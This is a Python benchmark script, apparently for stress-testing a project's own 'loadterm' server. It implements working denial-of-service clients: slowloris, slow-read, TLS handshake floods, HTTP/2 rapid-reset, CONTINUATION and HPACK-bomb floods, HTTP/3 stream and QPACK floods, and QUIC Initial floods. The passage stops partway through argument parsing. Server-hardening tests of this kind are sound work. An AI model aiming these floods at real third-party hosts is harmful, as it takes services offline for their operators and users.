#!/usr/bin/env python3
"""Hostile clients against `loadterm serve` (issue 16): floods and slow clients, at any scale.

    bench/hostile.py SCENARIO [KIND] --port PORT [-n SIZE] [--duration SECONDS] [options]

Scenarios (each has --help):
  idle            N keep-alive connections (clear or --tls; HTTP/1.1, or --h2), one request
                  each, then held idle
  slowloris       N connections trickling a request head, one byte per --interval
  slow-read       N connections asking for a large body (--path, /?s=10m) and never reading it
  tls-flood       full TLS handshakes as fast as possible, --parallel at a time, closed at once
  h2 KIND         raw HTTP/2 floods: rapid-reset continuation ping settings empty-data
                  window-update hpack-bomb abandon
  h3 KIND         HTTP/3 (aioquic): streams qpack conns initial-flood
  amplification   ONE client Initial, never acknowledged: the bytes the server sends back

Each run prints ONE JSON line on stdout: what it sent, what it saw, and how the server ended each
connection ("ended": 408 or another status, "close" (EOF), "rst", GOAWAY/CONNECTION_CLOSE codes,
or "open" when it was still open at the end). With --ready FILE the file is created once the
attack is in place (connections open, flood under way), for a caller that measures the server
then. The size knob (-n) and the duration are per scenario; the file descriptor limit is raised
to the hard limit first. Python 3 standard library; aioquic for `h3` and `amplification`.
"""
import argparse
import asyncio
import functools
import json
import os
import resource
import socket
import ssl
import struct
import sys
import time
from collections import Counter


# --- shared ---------------------------------------------------------------------------------

def raise_nofile():
    """Soft RLIMIT_NOFILE up to the hard limit (10 000 connections need more than 1024)."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft < hard:
        resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    return hard


def spread(values):
    """min / median / max of a list of seconds (None when empty)."""
    if not values:
        return None
    v = sorted(values)
    return {"min": round(v[0], 3), "median": round(v[len(v) // 2], 3), "max": round(v[-1], 3)}


def error_kind(e):
    """A short, countable name for a failure."""
    if isinstance(e, (asyncio.TimeoutError, TimeoutError)):
        return "timeout"
    if isinstance(e, ConnectionResetError):
        return "rst"
    if isinstance(e, ConnectionRefusedError):
        return "refused"
    if isinstance(e, (BrokenPipeError, asyncio.IncompleteReadError, ConnectionAbortedError)):
        return "close"
    if isinstance(e, ssl.SSLError):
        return "tls:" + (e.reason or type(e).__name__)
    if isinstance(e, OSError) and e.errno is not None:
        return "os:" + os.strerror(e.errno)
    return type(e).__name__


@functools.lru_cache(maxsize=None)
def tls_context(alpn):
    # One context per ALPN list: each loads the system's CA store (about 1 MB and a few ms), so
    # a context per connection made 10 000 TLS connections take 11 GB and ten minutes.
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    ctx.set_alpn_protocols(list(alpn))
    return ctx


def signal_ready(args):
    if args.ready:
        with open(args.ready, "w", encoding="ascii") as f:
            f.write(f"{time.time():.3f}\n")


async def open_tcp(args, alpn=("http/1.1",)):
    ctx = tls_context(tuple(alpn)) if args.tls else None
    return await asyncio.wait_for(
        asyncio.open_connection(args.host, args.port, ssl=ctx,
                                server_hostname="localhost" if ctx else None),
        args.timeout)


def abort(writer):
    try:
        writer.transport.abort()
    except Exception:  # already closed
        pass


async def read_h1_response(reader, limit):
    """One HTTP/1.1 response (Content-Length framed, as the server's dummy answers are):
    (status, bytes read)."""
    head = await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), limit)
    lines = head.decode("latin-1").split("\r\n")
    status = int(lines[0].split(" ", 2)[1])
    length = 0
    for line in lines[1:]:
        name, _, value = line.partition(":")
        if name.strip().lower() == "content-length":
            length = int(value)
    if length:
        await asyncio.wait_for(reader.readexactly(length), limit)
    return status, len(head) + length


async def watch_end(reader, t0):
    """Wait for the server to end the connection: ("close" | "rst" | "data", seconds)."""
    try:
        data = await reader.read(1)
        how = "data" if data else "close"
    except (ConnectionResetError, BrokenPipeError):
        how = "rst"
    except ssl.SSLError:
        how = "close"
    return how, time.monotonic() - t0


def request_bytes(path):
    return f"GET {path} HTTP/1.1\r\nHost: x\r\n\r\n".encode()


# --- idle -----------------------------------------------------------------------------------

async def idle(args):
    nofile = raise_nofile()
    req = request_bytes(args.path)
    sem = asyncio.Semaphore(args.parallel)
    out = {"errors": Counter(), "status": Counter(), "sent": 0, "received": 0}

    async def one():
        async with sem:
            try:
                reader, writer = await open_tcp(args, alpn=("h2",) if args.h2 else ("http/1.1",))
            except Exception as e:
                out["errors"]["connect:" + error_kind(e)] += 1
                return None
            try:
                if args.h2:
                    first = PREFACE + frame(SETTINGS, 0, 0) + frame(
                        HEADERS, END_STREAM | END_HEADERS, 1, request_block(args.path))
                    writer.write(first)
                    out["sent"] += len(first)
                    status, n = await read_h2_response(reader, writer, args.timeout)
                    out["status"][status] += 1
                    out["received"] += n
                    return reader, writer
                writer.write(req)
                out["sent"] += len(req)
                status, n = await read_h1_response(reader, args.timeout)
                out["status"][status] += 1
                out["received"] += n
                return reader, writer
            except Exception as e:
                out["errors"]["request:" + error_kind(e)] += 1
                abort(writer)
                return None

    t0 = time.monotonic()
    conns = [c for c in await asyncio.gather(*(one() for _ in range(args.n))) if c]
    setup = time.monotonic() - t0
    signal_ready(args)
    t_idle = time.monotonic()
    watchers = [asyncio.ensure_future(watch_end(r, t_idle)) for r, _ in conns]
    done, _ = await asyncio.wait(watchers, timeout=args.duration) if watchers else (set(), set())
    ended = Counter(w.result()[0] for w in done)
    closed_after = [w.result()[1] for w in done]
    for w in watchers:
        w.cancel()
    for _, writer in conns:
        abort(writer)
    ended["open"] = len(conns) - len(done)
    return {
        "scenario": "idle", "tls": args.tls, "target": args.n, "nofile": nofile,
        "opened": len(conns), "setup_s": round(setup, 3), "held_s": args.duration,
        "status": out["status"], "errors": out["errors"], "bytes_sent": out["sent"],
        "bytes_received": out["received"], "ended": ended, "ended_after_s": spread(closed_after),
    }


# --- slowloris ------------------------------------------------------------------------------

def slow_head(path):
    """An endless request head: the request line, Host, then one more field after another."""
    yield from f"GET {path} HTTP/1.1\r\nHost: x\r\n".encode()
    while True:
        yield from b"X-Slow: loris\r\n"


async def slowloris(args):
    nofile = raise_nofile()
    sem = asyncio.Semaphore(args.parallel)
    out = {"errors": Counter(), "sent": 0, "received": 0}

    async def connect():
        async with sem:
            try:
                reader, writer = await open_tcp(args)
            except Exception as e:
                out["errors"]["connect:" + error_kind(e)] += 1
                return None
        return reader, writer

    async def trickle(reader, writer, deadline):
        t0 = time.monotonic()
        answer = asyncio.ensure_future(reader.read(65536))
        head = slow_head(args.path)
        while time.monotonic() < deadline and not answer.done():
            try:
                writer.write(bytes([next(head)]))
                await asyncio.wait_for(writer.drain(), args.timeout)
                out["sent"] += 1
            except Exception:
                break  # the server closed or stopped reading: the answer tells how
            await asyncio.wait([answer], timeout=args.interval)
        if not answer.done():
            await asyncio.wait([answer], timeout=0.5)
        how = "open"
        if answer.done():
            try:
                data = answer.result()
                out["received"] += len(data)
                if data.startswith(b"HTTP/1."):
                    how = data.split(b" ", 2)[1].decode()
                else:
                    how = "data" if data else "close"
            except (ConnectionResetError, BrokenPipeError):
                how = "rst"
        else:
            answer.cancel()
        abort(writer)
        return how, time.monotonic() - t0

    t0 = time.monotonic()
    conns = [c for c in await asyncio.gather(*(connect() for _ in range(args.n))) if c]
    setup = time.monotonic() - t0
    signal_ready(args)
    deadline = time.monotonic() + args.duration
    results = await asyncio.gather(*(trickle(r, w, deadline) for r, w in conns))
    ended = Counter(how for how, _ in results)
    return {
        "scenario": "slowloris", "tls": args.tls, "target": args.n, "nofile": nofile,
        "opened": len(conns), "setup_s": round(setup, 3), "interval_s": args.interval,
        "duration_s": args.duration, "errors": out["errors"], "bytes_sent": out["sent"],
        "bytes_received": out["received"], "ended": ended,
        # From the connection's first byte to the server's answer or close.
        "ended_after_s": spread([t for how, t in results if how != "open"]),
    }


# --- slow-read ------------------------------------------------------------------------------

async def slow_read(args):
    """Raw sockets with a small receive buffer: nothing reads them until the hold is over, so
    the server meets a zero window. Then each is drained to see how the server left it."""
    nofile = raise_nofile()
    loop = asyncio.get_running_loop()
    req = request_bytes(args.path)
    sem = asyncio.Semaphore(args.parallel)
    errors = Counter()

    async def connect():
        async with sem:
            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, args.rcvbuf)
            s.setblocking(False)
            try:
                await asyncio.wait_for(loop.sock_connect(s, (args.host, args.port)), args.timeout)
                await loop.sock_sendall(s, req)
                return s
            except Exception as e:
                errors["connect:" + error_kind(e)] += 1
                s.close()
                return None

    async def drain(s):
        """Read what the server sent until it closes, or until it sent nothing for a while."""
        head, total, length = b"", 0, None
        try:
            while True:
                data = await asyncio.wait_for(loop.sock_recv(s, 1 << 16), args.drain_wait)
                if not data:
                    how = "close"
                    break
                total += len(data)
                if length is None:
                    head += data[:4096]
                    end = head.find(b"\r\n\r\n")
                    if end >= 0:
                        length = end + 4
                        for line in head[:end].decode("latin-1").split("\r\n")[1:]:
                            name, _, value = line.partition(":")
                            if name.strip().lower() == "content-length":
                                length += int(value)
                if length is not None and total >= length:
                    how = "complete"  # the whole body: the server waited for us
                    break
        except (asyncio.TimeoutError, TimeoutError):
            how = "open"
        except (ConnectionResetError, BrokenPipeError):
            how = "rst"
        s.close()
        return how, total, length

    t0 = time.monotonic()
    socks = [s for s in await asyncio.gather(*(connect() for _ in range(args.n))) if s]
    setup = time.monotonic() - t0
    signal_ready(args)
    await asyncio.sleep(args.duration)
    results = await asyncio.gather(*(drain(s) for s in socks))
    return {
        "scenario": "slow-read", "target": args.n, "nofile": nofile, "path": args.path,
        "rcvbuf": args.rcvbuf, "opened": len(socks), "setup_s": round(setup, 3),
        "held_s": args.duration, "errors": errors, "bytes_sent": len(req) * len(socks),
        "bytes_received": sum(t for _, t, _ in results),
        "response_bytes": next((n for _, _, n in results if n), None),
        "ended": Counter(how for how, _, _ in results),
        "received_per_conn": spread([t for _, t, _ in results]),
    }


# --- tls-flood ------------------------------------------------------------------------------

async def tls_flood(args):
    raise_nofile()
    ctx = tls_context(("h2", "http/1.1"))
    errors, took = Counter(), []
    deadline = time.monotonic() + args.duration
    count = {"started": 0}

    async def worker():
        while time.monotonic() < deadline and (args.n == 0 or count["started"] < args.n):
            count["started"] += 1
            t = time.monotonic()
            try:
                _, writer = await asyncio.wait_for(
                    asyncio.open_connection(args.host, args.port, ssl=ctx,
                                            server_hostname="localhost"), args.timeout)
            except Exception as e:
                errors[error_kind(e)] += 1
                continue
            took.append(time.monotonic() - t)
            abort(writer)

    signal_ready(args)
    t0 = time.monotonic()
    await asyncio.gather(*(worker() for _ in range(args.parallel)))
    wall = time.monotonic() - t0
    took.sort()
    return {
        "scenario": "tls-flood", "parallel": args.parallel, "duration_s": round(wall, 3),
        "handshakes": len(took), "failed": sum(errors.values()), "errors": errors,
        "per_s": round(len(took) / wall, 1) if wall else None,
        "handshake_s": spread(took),
        "handshake_p99_s": round(took[int(len(took) * 0.99)], 4) if took else None,
    }


# --- h2 -------------------------------------------------------------------------------------

DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = (
    0x0, 0x1, 0x3, 0x4, 0x6, 0x7, 0x8, 0x9)
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
FRAME_NAMES = {0: "DATA", 1: "HEADERS", 3: "RST_STREAM", 4: "SETTINGS", 6: "PING", 7: "GOAWAY",
               8: "WINDOW_UPDATE", 9: "CONTINUATION"}


def frame(ty, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([ty, flags]) + struct.pack(">I", stream) + payload


def hpack_int(prefix_bits, first, v):
    """HPACK integer (RFC 7541 §5.1) with `first` holding the pattern bits above the prefix."""
    top = (1 << prefix_bits) - 1
    if v < top:
        return bytes([first | v])
    out = [first | top]
    v -= top
    while v >= 128:
        out.append(v % 128 | 0x80)
        v //= 128
    out.append(v)
    return bytes(out)


def hpack_literal(name, value, indexing=False):
    """Literal field with a new name, no Huffman: without indexing, or with incremental
    indexing (then it enters the dynamic table)."""
    pre = b"\x40" if indexing else b"\x00"
    return (pre + hpack_int(7, 0, len(name)) + name + hpack_int(7, 0, len(value)) + value)


def request_block(path, method=b"GET"):
    return b"".join(hpack_literal(n, v) for n, v in [
        (b":method", method), (b":scheme", b"http"), (b":path", path.encode()),
        (b":authority", b"x")])


async def read_h2_response(reader, writer, limit):
    """Frames until stream 1 ended and the server acknowledged our SETTINGS (its SETTINGS
    acknowledged too): ("h2", bytes read). Nothing more comes to an idle connection then."""
    n, done, acked = 0, False, False
    while not (done and acked):
        head = await asyncio.wait_for(reader.readexactly(9), limit)
        length = int.from_bytes(head[:3], "big")
        payload = await asyncio.wait_for(reader.readexactly(length), limit) if length else b""
        n += 9 + length
        ty, flags, stream = head[3], head[4], int.from_bytes(head[5:9], "big") & 0x7FFFFFFF
        if ty == SETTINGS:
            if flags & ACK:
                acked = True
            else:
                writer.write(frame(SETTINGS, ACK, 0))
        if stream == 1 and ty in (HEADERS, DATA) and flags & END_STREAM:
            done = True
        if ty in (GOAWAY, RST_STREAM):
            raise ConnectionError(FRAME_NAMES[ty])
    return "h2", n


class H2Conn:
    """One raw HTTP/2 connection: frames written as given, the server's frames counted as they
    come (SETTINGS acknowledged, as a client must, unless the scenario never reads)."""

    def __init__(self):
        self.rx = Counter()
        self.rst = Counter()
        self.goaway = None
        self.end = None  # "close" | "rst" when the server ended it
        self.sent = self.received = self.frames = 0
        self.stalled = False

    async def open(self, args, settings=b"", extra=b""):
        self.reader, self.writer = await open_tcp(args, alpn=("h2",))
        self.writer.write(PREFACE + frame(SETTINGS, 0, 0, settings) + extra)

    def start_reading(self):
        self.reading = asyncio.ensure_future(self._read())

    async def _read(self):
        buf = bytearray()
        try:
            while True:
                data = await self.reader.read(1 << 18)
                if not data:
                    self.end = "close"
                    return
                self.received += len(data)
                buf += data
                at = 0
                while len(buf) - at >= 9:
                    n = int.from_bytes(buf[at:at + 3], "big")
                    if len(buf) - at < 9 + n:
                        break
                    ty, flags = buf[at + 3], buf[at + 4]
                    p = at + 9
                    self.rx[FRAME_NAMES.get(ty, str(ty))] += 1
                    if ty == SETTINGS and not flags & ACK:
                        self.writer.write(frame(SETTINGS, ACK, 0))
                    elif ty == GOAWAY and self.goaway is None:
                        self.goaway = int.from_bytes(buf[p + 4:p + 8], "big")
                    elif ty == RST_STREAM:
                        self.rst[int.from_bytes(buf[p:p + 4], "big")] += 1
                    at = p + n
                del buf[:at]
        except (ConnectionResetError, BrokenPipeError):
            self.end = "rst"
        except ssl.SSLError:
            self.end = "close"

    def over(self):
        return self.end is not None or self.goaway is not None

    async def send(self, data, frames, limit):
        """Write; False once the server ended the connection or stopped reading for `limit`."""
        if self.over():
            return False
        try:
            self.writer.write(data)
            await asyncio.wait_for(self.writer.drain(), limit)
        except (asyncio.TimeoutError, TimeoutError):
            self.stalled = True
            return False
        except (ConnectionResetError, BrokenPipeError, ssl.SSLError):
            return False
        self.sent += len(data)
        self.frames += frames
        return True


def h2_batches(kind, n):
    """The flood of one connection: (bytes, frames) batches, `n` frames (or streams) in all."""
    batch = 256
    if kind == "rapid-reset":
        block = request_block("/?s=1k")
        sid = 1
        for start in range(0, n, batch):
            k = min(batch, n - start)
            out = bytearray()
            for _ in range(k):
                out += frame(HEADERS, END_STREAM | END_HEADERS, sid, block)
                out += frame(RST_STREAM, 0, sid, struct.pack(">I", 0x8))  # CANCEL
                sid += 2
            yield bytes(out), 2 * k
    elif kind == "continuation":
        yield frame(HEADERS, END_STREAM, 1, request_block("/")), 1
        junk = hpack_literal(b"x-flood", b"a" * 16000)
        cont = frame(CONTINUATION, 0, 1, junk)
        for start in range(0, n, 16):
            k = min(16, n - start)
            yield cont * k, k
    elif kind in ("ping", "settings", "window-update"):
        one = {"ping": frame(PING, 0, 0, b"\x07" * 8),
               "settings": frame(SETTINGS, 0, 0, b"\x00\x03\x00\x00\x00\x64"),
               "window-update": frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1))}[kind]
        for start in range(0, n, 4096):
            k = min(4096, n - start)
            yield one * k, k
    elif kind == "empty-data":
        # One upload that never ends: zero-length DATA frames, none with END_STREAM.
        yield frame(HEADERS, END_HEADERS, 1, request_block("/?s=1", b"POST")), 1
        empty = frame(DATA, 0, 1)
        for start in range(0, n, 4096):
            k = min(4096, n - start)
            yield empty * k, k
    elif kind == "hpack-bomb":
        # A 4 000-byte field enters the dynamic table (stream 1, an ordinary request), then each
        # request repeats its 1-byte index (62) to fill a frame: 16 KiB that inflate to ~65 MB.
        block = request_block("/?s=1")
        yield frame(HEADERS, END_STREAM | END_HEADERS, 1,
                    block + hpack_literal(b"x-bomb", b"a" * 4000, indexing=True)), 1
        bomb = block + b"\xbe" * (16384 - len(block))
        for i in range(1, n):
            yield frame(HEADERS, END_STREAM | END_HEADERS, 2 * i + 1, bomb), 1
    elif kind == "abandon":
        block = request_block("/?s=1m")
        sid = 1
        for start in range(0, n, batch):
            k = min(batch, n - start)
            yield b"".join(frame(HEADERS, END_STREAM | END_HEADERS, sid + 2 * j, block)
                           for j in range(k)), k
            sid += 2 * k
    else:
        raise ValueError(kind)


async def h2(args):
    raise_nofile()
    kind = args.kind
    settings, extra = b"", b""
    if kind == "abandon":
        # Windows wide open, so that only the unread socket holds the server's answers back.
        settings = struct.pack(">HI", 0x4, (1 << 31) - 1)
        extra = frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", (1 << 31) - 1 - 65535))
    conns, errors = [], Counter()
    for _ in range(args.conns):
        c = H2Conn()
        try:
            await c.open(args, settings, extra)
            conns.append(c)
        except Exception as e:
            errors["connect:" + error_kind(e)] += 1
    reads = kind != "abandon"
    if reads:
        for c in conns:
            c.start_reading()
    signal_ready(args)
    t0 = time.monotonic()
    deadline = t0 + args.duration

    async def flood(c):
        for data, frames in h2_batches(kind, args.n):
            if time.monotonic() > deadline or not await c.send(data, frames, args.timeout):
                return
            await asyncio.sleep(0)

    await asyncio.gather(*(flood(c) for c in conns))
    flood_s = time.monotonic() - t0
    if not reads:
        # Abandoned: nothing read for the rest of --duration; then read to see what is left.
        await asyncio.sleep(max(0.0, deadline - time.monotonic()))
        for c in conns:
            c.start_reading()
    # How does the server end it? Read for up to --linger more seconds.
    linger_end = time.monotonic() + args.linger
    while time.monotonic() < linger_end and not all(c.end for c in conns):
        await asyncio.sleep(0.05)
    for c in conns:
        c.reading.cancel()
        abort(c.writer)
    ended = Counter()
    for c in conns:
        if c.goaway is not None:
            ended[f"goaway:{c.goaway:#x}"] += 1
        ended[c.end or "open"] += 1
    rst, rx = Counter(), Counter()
    for c in conns:
        rst.update({f"{k:#x}": v for k, v in c.rst.items()})
        rx.update(c.rx)
    return {
        "scenario": "h2", "kind": kind, "tls": args.tls, "conns": len(conns), "errors": errors,
        "frames_per_conn": args.n, "flood_s": round(flood_s, 3),
        "frames_sent": sum(c.frames for c in conns), "bytes_sent": sum(c.sent for c in conns),
        "bytes_received": sum(c.received for c in conns), "frames_received": rx,
        "rst_stream_received": rst, "stalled": sum(c.stalled for c in conns), "ended": ended,
    }


# --- h3 and amplification (aioquic) ---------------------------------------------------------

def quic_config():
    from aioquic.h3.connection import H3_ALPN
    from aioquic.quic.configuration import QuicConfiguration
    return QuicConfiguration(alpn_protocols=H3_ALPN, is_client=True, verify_mode=ssl.CERT_NONE,
                             server_name="localhost")


def h3_client_class():
    from aioquic.asyncio.protocol import QuicConnectionProtocol
    from aioquic.h3.connection import H3Connection
    from aioquic.h3.events import HeadersReceived
    from aioquic.quic.events import ConnectionTerminated, StreamReset

    class Client(QuicConnectionProtocol):
        """An aioquic HTTP/3 client that counts what the server does."""

        def __init__(self, *a, **kw):
            super().__init__(*a, **kw)
            self.h3 = H3Connection(self._quic)
            self.status = Counter()
            self.resets = Counter()
            self.closed = None  # the server's (or the handshake's) close code
            self.closed_at = None
            self.wake = asyncio.Event()

        def quic_event_received(self, event):
            if isinstance(event, ConnectionTerminated):
                self.closed, self.closed_at = event.error_code, time.monotonic()
            elif isinstance(event, StreamReset):
                self.resets[event.error_code] += 1
            try:
                for ev in self.h3.handle_event(event):
                    if isinstance(ev, HeadersReceived):
                        self.status[dict(ev.headers).get(b":status", b"?").decode()] += 1
            except Exception:  # frames for streams this client abandoned
                pass
            self.wake.set()

    return Client


async def quic_open(args, client_class):
    """A QUIC connection from its own UDP socket, handshake done: (transport, protocol)."""
    from aioquic.quic.connection import QuicConnection
    loop = asyncio.get_running_loop()
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.bind(("127.0.0.1", 0))
    transport, proto = await loop.create_datagram_endpoint(
        lambda: client_class(QuicConnection(configuration=quic_config())), sock=sock)
    try:
        proto.connect((args.host, args.port))
        await asyncio.wait_for(proto.wait_connected(), args.timeout)
    except BaseException:
        transport.close()
        raise
    return transport, proto


def h3_request(proto, path, end_stream=True):
    sid = proto._quic.get_next_available_stream_id()
    proto.h3.send_headers(sid, [(b":method", b"GET"), (b":scheme", b"https"),
                                (b":authority", b"localhost"), (b":path", path.encode())],
                          end_stream=end_stream)
    return sid


def quic_close(transport, proto):
    try:
        proto.close()
    finally:
        transport.close()


def h3_ended(protos):
    ended = Counter()
    for p in protos:
        ended["open" if p.closed is None else f"close:{p.closed:#x}"] += 1
    return ended


async def h3(args):
    raise_nofile()
    if args.kind == "initial-flood":
        return await initial_flood(args)
    client = h3_client_class()
    sem = asyncio.Semaphore(args.parallel)
    errors = Counter()

    async def connect():
        async with sem:
            try:
                return await quic_open(args, client)
            except Exception as e:
                errors["connect:" + error_kind(e)] += 1
                return None

    nconns = args.n if args.kind == "conns" else args.conns
    t0 = time.monotonic()
    conns = [c for c in await asyncio.gather(*(connect() for _ in range(nconns))) if c]
    setup = time.monotonic() - t0
    protos = [p for _, p in conns]
    out = {"scenario": "h3", "kind": args.kind, "target": nconns, "opened": len(conns),
           "setup_s": round(setup, 3), "errors": errors}
    deadline = time.monotonic() + args.duration
    if args.kind == "conns":
        # One request each, then held idle.
        for p in protos:
            h3_request(p, args.path)
            p.transmit()
        signal_ready(args)
        await asyncio.sleep(args.duration)
    elif args.kind == "streams":
        signal_ready(args)

        async def abandon(p):
            """Requests opened as fast as the server's stream limit lets, each abandoned at once
            (RESET_STREAM and STOP_SENDING, H3_REQUEST_CANCELLED): rapid reset on HTTP/3."""
            opened = 0
            while opened < args.n and p.closed is None and time.monotonic() < deadline:
                q = p._quic
                room = q._remote_max_streams_bidi - q.get_next_available_stream_id() // 4
                sids = [h3_request(p, args.path) for _ in range(min(room, args.n - opened, 64))]
                p.transmit()  # the requests leave before their resets
                for sid in sids:
                    q.reset_stream(sid, 0x10C)
                    q.stop_stream(sid, 0x10C)
                opened += len(sids)
                p.transmit()
                p.wake.clear()
                if sids:
                    await asyncio.sleep(0)
                    continue
                try:  # at the server's stream limit: wait for it to grant more
                    await asyncio.wait_for(p.wake.wait(), 0.05)
                except (asyncio.TimeoutError, TimeoutError):
                    pass
            return opened

        opened = await asyncio.gather(*(abandon(p) for p in protos))
        out["streams_opened"] = sum(opened)
        out["flood_s"] = round(time.monotonic() - (deadline - args.duration), 3)
        await asyncio.sleep(args.linger)
    elif args.kind == "qpack":
        # The server allows no dynamic table (no SETTINGS_QPACK_MAX_TABLE_CAPACITY): set a
        # capacity of 4096 anyway (RFC 9204 §4.3.1: QPACK_ENCODER_STREAM_ERROR), then insert
        # entries (Insert with Literal Name) without end.
        cap = hpack_int(5, 0x20, 4096)
        insert = (hpack_int(5, 0x40, 6) + b"x-qpak" + hpack_int(7, 0, 64) + b"q" * 64)
        signal_ready(args)
        sent = 0
        for p in protos:
            p._quic.send_stream_data(p.h3._local_encoder_stream_id, cap)
            p.transmit()
        while sent < args.n and time.monotonic() < deadline:
            live = [p for p in protos if p.closed is None]
            if not live:
                break
            for p in live:
                p._quic.send_stream_data(p.h3._local_encoder_stream_id, insert * 64)
                p.transmit()
            sent += 64
            await asyncio.sleep(0.001)
        out["instructions_sent"] = sent * len(protos)
        # Does the connection still serve? (It should be closed by now.)
        for p in protos:
            if p.closed is None:
                h3_request(p, "/?s=1")
                p.transmit()
        await asyncio.sleep(args.linger)
    else:
        raise ValueError(args.kind)
    status, resets = Counter(), Counter()
    for p in protos:
        status.update(p.status)
        resets.update({f"{k:#x}": v for k, v in p.resets.items()})
    out.update(status=status, stream_resets=resets, ended=h3_ended(protos),
               ended_after_s=spread([p.closed_at - t0 - setup for p in protos if p.closed_at]))
    for transport, proto in conns:
        quic_close(transport, proto)
    await asyncio.sleep(0.05)
    return out


def varint(buf, i):
    """QUIC variable-length integer at buf[i]: (value, next index)."""
    n = 1 << (buf[i] >> 6)
    v = buf[i] & 0x3F
    for b in buf[i + 1:i + n]:
        v = v << 8 | b
    return v, i + n


def client_initial(args):
    """One client Initial datagram from aioquic, ClientHello in it, padded to 1200 bytes."""
    from aioquic.quic.connection import QuicConnection
    conn = QuicConnection(configuration=quic_config())
    conn.connect((args.host, args.port), now=time.monotonic())
    datagrams = conn.datagrams_to_send(now=time.monotonic())
    if len(datagrams) != 1:
        raise SystemExit(f"hostile.py: aioquic's first flight is {len(datagrams)} datagrams, not 1")
    return datagrams[0][0]


class InitialMaker:
    """Fresh client Initials from one template: the template's plaintext (its ClientHello and
    padding) encrypted again under a new destination connection ID each time, so that every
    datagram looks like a new connection (the source ID stays: the ClientHello names it)."""

    def __init__(self, datagram):
        from aioquic.quic.crypto import CryptoPair
        d = datagram
        self.version = d[1:5]
        dcid = d[6:6 + d[5]]
        i = 6 + d[5]
        self.scid = d[i + 1:i + 1 + d[i]]
        i += 1 + d[i]
        token_len, i = varint(d, i)
        length, i = varint(d, i + token_len)
        server = CryptoPair()
        server.setup_initial(dcid, is_client=False, version=int.from_bytes(self.version, "big"))
        _, self.payload, _ = server.decrypt_packet(d[:i + length], i, 0)
        self.CryptoPair = CryptoPair

    def make(self):
        dcid = os.urandom(8)
        # PADDING (zero bytes) up to a 1200-byte datagram: servers drop smaller client Initials.
        head_len = 1 + 4 + 1 + len(dcid) + 1 + len(self.scid) + 1 + 2 + 4
        payload = self.payload + bytes(max(0, 1200 - head_len - 16 - len(self.payload)))
        length = 4 + len(payload) + 16  # packet number, payload, AEAD tag
        header = (b"\xc3" + self.version + bytes([len(dcid)]) + dcid + bytes([len(self.scid)])
                  + self.scid + b"\x00" + struct.pack(">H", 0x4000 | length) + b"\x00" * 4)
        pair = self.CryptoPair()
        pair.setup_initial(dcid, is_client=True, version=int.from_bytes(self.version, "big"))
        return pair.encrypt_packet(header, payload, 0)


class Counting(asyncio.DatagramProtocol):
    def __init__(self, total):
        self.total = total

    def datagram_received(self, data, addr):
        self.total["datagrams"] += 1
        self.total["bytes"] += len(data)


async def initial_flood(args):
    """Initials from --addrs loopback addresses (127.0.0.2...) times --ports source ports each,
    round robin, never answered: each asks the server for a new handshake."""
    loop = asyncio.get_running_loop()
    maker = InitialMaker(client_initial(args))
    back = Counter()
    transports = []
    for a in range(args.addrs):
        for _ in range(args.ports):
            sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            sock.bind((f"127.0.{(a + 2) // 256}.{(a + 2) % 256}", 0))
            t, _ = await loop.create_datagram_endpoint(lambda: Counting(back), sock=sock)
            transports.append(t)
    signal_ready(args)
    t0 = time.monotonic()
    deadline = t0 + args.duration
    sent = sent_bytes = 0
    while sent < args.n and time.monotonic() < deadline:
        pkt = maker.make()
        transports[sent % len(transports)].sendto(pkt, (args.host, args.port))
        sent += 1
        sent_bytes += len(pkt)
        if sent % 32 == 0:
            await asyncio.sleep(0)  # let the answers in
    flood_s = time.monotonic() - t0
    await asyncio.sleep(args.linger)
    for t in transports:
        t.close()
    return {
        "scenario": "h3", "kind": "initial-flood", "sources": len(transports),
        "initials_sent": sent, "bytes_sent": sent_bytes, "flood_s": round(flood_s, 3),
        "per_s": round(sent / flood_s, 1) if flood_s else None,
        "datagrams_received": back["datagrams"], "bytes_received": back["bytes"],
    }


def amplification(args):
    """RFC 9000 §8.1: before the client's address is validated the server sends at most three
    times what it received. One Initial goes out; nothing answers what comes back."""
    datagram = client_initial(args)
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.bind(("127.0.0.1", 0))
    t0 = time.monotonic()
    sock.sendto(datagram, (args.host, args.port))
    signal_ready(args)
    arrivals = []
    while True:
        left = t0 + args.duration - time.monotonic()
        if left <= 0:
            break
        sock.settimeout(left)
        try:
            data = sock.recv(65536)
        except (socket.timeout, TimeoutError):
            break
        arrivals.append((round(time.monotonic() - t0, 3), len(data)))
    sock.close()
    received = sum(n for _, n in arrivals)
    return {
        "scenario": "amplification", "bytes_sent": len(datagram), "bytes_received": received,
        "datagrams_received": len(arrivals), "arrivals": arrivals,
        "ratio": round(received / len(datagram), 3), "limit": 3 * len(datagram),
        "within_limit": received <= 3 * len(datagram), "listened_s": args.duration,
    }


# --- command line ---------------------------------------------------------------------------

H2_KINDS = ["rapid-reset", "continuation", "ping", "settings", "empty-data", "window-update",
            "hpack-bomb", "abandon"]
H3_KINDS = ["streams", "qpack", "conns", "initial-flood"]


def parse_args(argv):
    common = argparse.ArgumentParser(add_help=False)
    common.add_argument("--host", default="127.0.0.1")
    common.add_argument("--port", type=int, required=True,
                        help="the server's port (the TLS/QUIC one for --tls, h3, amplification)")
    common.add_argument("--tls", action="store_true", help="TLS instead of clear text (TCP)")
    common.add_argument("--duration", type=float, default=10.0,
                        help="seconds the attack lasts once in place (default 10)")
    common.add_argument("--timeout", type=float, default=10.0,
                        help="seconds one client operation may take (connect, handshake, write)")
    common.add_argument("--parallel", type=int,
                        help="connections opened (or handshakes run) at once (200; tls-flood 64)")
    common.add_argument("--linger", type=float, default=3.0,
